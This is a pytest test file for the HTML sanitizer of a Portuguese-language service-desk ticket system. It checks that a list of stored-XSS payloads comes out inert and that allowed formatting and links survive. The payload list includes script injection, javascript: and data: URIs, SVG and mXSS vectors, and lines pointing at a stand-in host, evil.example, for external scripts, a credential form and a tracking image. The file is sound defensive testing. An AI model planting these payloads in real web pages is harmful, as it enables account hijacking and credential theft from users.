import re

import pytest

from servicedesk.tickets.richtext import clean_html, html_to_text, text_to_html

# Stored-XSS payloads: each must come out inert.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<img src=/chamados/1/anexos/1/ onerror=alert(1)>",
    '<p onclick="alert(1)">clique</p>',
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href="java\nscript:alert(1)">link</a>',
    '<a href="&#106;avascript:alert(1)">link</a>',
    '<a href="  javascript:alert(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<<script>script>alert(1)<</script>/script>",
    "<p><b><i>não fechado <script>alert(1)</script>",
    '<form action="https://evil.example"><input name="senha"></form>',
    '<a href="https://ok.example" target="_blank" onmouseover="alert(1)">ok</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<img src="https://evil.example/rastreio.png">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
]

DANGEROUS = re.compile(
    r"<script|<svg|<iframe|<object|<style|<form|<input|<base|<meta|\son\w+\s*=|javascript:|data:|https://evil",
    re.IGNORECASE,
)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payloads_come_out_inert(payload):
    clean = clean_html(payload, ticket_number=1)
    assert not DANGEROUS.search(clean.html), clean.html


def test_allowed_formatting_survives():
    raw = (
        "<p><strong>negrito</strong> <em>itálico</em> <u>sublinhado</u> <s>riscado</s><br>linha</p>"
        "<ol><li>um</li></ol><ul><li>dois</li></ul><blockquote>citação</blockquote>"
        "<pre>código</pre><p><code>x = 1</code></p>"
    )
    assert clean_html(raw, ticket_number=1).html == raw


def test_links_get_rel_and_only_safe_schemes():
    clean = clean_html(
        '<a href="https://www.gov.br/siop">SIOP</a>'
        ' <a href="mailto:suporte@example.gov.br">e-mail</a>'
        ' <a href="/admin/">relativo</a> <a href="ftp://x">ftp</a>',
        ticket_number=1,
    )
    assert (
        '<a href="https://www.gov.br/siop" rel="noopener noreferrer nofollow">SIOP</a>'
        in clean.html
    )
    assert 'href="mailto:suporte@example.gov.br"' in clean.html
    assert "/admin/" not in clean.html and "ftp:" not in clean.html


def test_images_only_from_this_tickets_attachment_view():
    clean = clean_html(
        '<p><img src="/chamados/7/anexos/31/" alt="tela"><img src="/chamados/8/anexos/32/">'
        '<img src="/chamados/7/anexos/33/x"></p>',
        ticket_number=7,
    )
    assert clean.html == '<p><img src="/chamados/7/anexos/31/" alt="tela"></p>'
    assert clean.image_ids == [31]


@pytest.mark.parametrize(
    "raw", ["", "   ", "<p></p>", "<p> <br> </p>", "<p>&nbsp;</p>", "<script>x</script>"]
)
def test_empty_messages_are_recognised(raw):
    assert clean_html(raw, ticket_number=1).is_empty


def test_a_message_with_only_an_image_is_not_empty():
    assert not clean_html('<p><img src="/chamados/1/anexos/2/"></p>', ticket_number=1).is_empty


def test_plain_text_twin_keeps_paragraphs_and_lines():
    assert html_to_text("<p>Olá,</p><p>linha 1<br>linha 2</p><ul><li>a</li><li>b</li></ul>") == (
        "Olá,\nlinha 1\nlinha 2\na\nb"
    )
    assert html_to_text("<p>5 &lt; 6 &amp; 7</p>") == "5 < 6 & 7"


def test_plain_text_body_without_javascript_is_escaped_into_paragraphs():
    clean = text_to_html("Bom dia,\n<script>alert(1)</script>\n\nObrigada")
    assert clean.html == "<p>Bom dia,<br>&lt;script&gt;alert(1)&lt;/script&gt;</p><p>Obrigada</p>"
    assert clean.text == "Bom dia,\n<script>alert(1)</script>\n\nObrigada"
